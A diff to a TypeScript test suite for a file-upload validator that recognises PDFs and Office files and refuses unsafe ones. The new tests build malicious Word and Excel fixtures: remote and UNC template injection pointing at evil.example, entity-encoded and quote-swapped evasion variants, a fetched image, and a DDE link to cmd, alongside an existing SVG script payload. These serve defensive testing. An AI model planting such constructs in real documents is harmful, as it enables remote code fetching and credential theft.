@@ -16,6 +16,16 @@ import {
 const office = "application/vnd.openxmlformats-officedocument";
 const text = (words: string): Buffer => Buffer.from(words);
 
+/** What a Word file says of its settings' parts. */
+const linked = (relationship: string) => ({
+  "word/_rels/settings.xml.rels": `<?xml version="1.0"?><Relationships>${relationship}</Relationships>`,
+});
+const kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const linkTo = `<Relationship Id="rId1" Type="${kind}/hyperlink" Target="https://school.example/" TargetMode="External"/>`;
+const ownTemplate = `<Relationship Id="rId1" Type="${kind}/attachedTemplate" Target="file:///C:\\Templates\\Letter.dotx" TargetMode="External"/>`;
+const template = (target: string): string =>
+  `<Relationship Id="rId1" Type="${kind}/attachedTemplate" Target="${target}" TargetMode="External"/>`;
+
 describe("a file is known by its content", () => {
   test.each<[string, Buffer, string, string]>([
     ["letter.pdf", aPdf, "letter.pdf", "application/pdf"],
@@ -23,6 +33,8 @@ describe("a file is known by its content", () => {
     ["Plan.DOCX", aDocx(), "Plan.DOCX", `${office}.wordprocessingml.document`],
     ["plan", aDocx(), "plan.docx", `${office}.wordprocessingml.document`],
     ["list.xlsx", anXlsx(), "list.xlsx", `${office}.spreadsheetml.sheet`],
+    ["linked.docx", aDocx(linked(linkTo)), "linked.docx", `${office}.wordprocessingml.document`],
+    ["own.docx", aDocx(linked(ownTemplate)), "own.docx", `${office}.wordprocessingml.document`],
     ["list.csv", text("Name,Born\r\nUna,2011\r\n"), "list.csv", "text/csv"],
     ["notes.txt", text("Said “no” — twice\n"), "notes.txt", "text/plain"],
     ["pound.csv", Buffer.from("Fee,\u00a35\n", "latin1"), "pound.csv", "text/csv"],
@@ -38,6 +50,7 @@ describe("a file is known by its content", () => {
 describe("a file is refused", () => {
   const other = /^“.*” must be a PDF, a Word document/;
   const macros = /^“.*” holds macros/;
+  const elsewhere = /^“.*” fetches a template, a picture or data from elsewhere/;
   const damaged = /^“.*” is damaged/;
   const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`;
   test.each<[string, string, Buffer, RegExp]>([
@@ -69,6 +82,56 @@ describe("a file is refused", () => {
     ["old macro sheets", "list.xlsx", anXlsx({ "xl/macrosheets/sheet1.xml": "x" }), macros],
     ["a control", "plan.docx", aDocx({ "word/activeX/activeX1.bin": "x" }), macros],
     ["an embedded program", "plan.docx", aDocx({ "word/embeddings/oleObject1.bin": "x" }), macros],
+    [
+      "a template on the internet",
+      "plan.docx",
+      aDocx(linked(template("https://evil.example/t.dotm"))),
+      elsewhere,
+    ],
+    [
+      "a template on another machine",
+      "plan.docx",
+      aDocx(linked(template("file:///\\\\evil\\t.dotm"))),
+      elsewhere,
+    ],
+    [
+      "a template whose place is written in signs",
+      "plan.docx",
+      aDocx(linked(template("&#104;ttps://evil.example/t"))),
+      elsewhere,
+    ],
+    [
+      "a template in single quotes",
+      "plan.docx",
+      aDocx(linked(template("https://evil.example/>t").replaceAll('"', "'"))),
+      elsewhere,
+    ],
+    [
+      "a picture that is fetched",
+      "plan.docx",
+      aDocx(linked(linkTo.replace("hyperlink", "image"))),
+      elsewhere,
+    ],
+    [
+      "what another program sends",
+      "list.xlsx",
+      anXlsx({
+        "xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd"/></externalLink>`,
+      }),
+      elsewhere,
+    ],
+    [
+      "links in another writing",
+      "plan.docx",
+      aDocx({ "word/_rels/settings.xml.rels": "<\u0000R\u0000" }),
+      damaged,
+    ],
+    [
+      "links behind words of their own",
+      "plan.docx",
+      aDocx(linked(`<!DOCTYPE r [<!ENTITY e "External">]>`)),
+      damaged,
+    ],
     ["a bomb that says so", "plan.docx", aBomb(150_000_000, 150_000_000), /unpacks to far more/],
     ["a bomb that says it is small", "plan.docx", aBomb(150_000_000, 1000), /unpacks to far more/],
     ["a Word file cut short", "plan.docx", aDocx().subarray(0, 200), damaged],
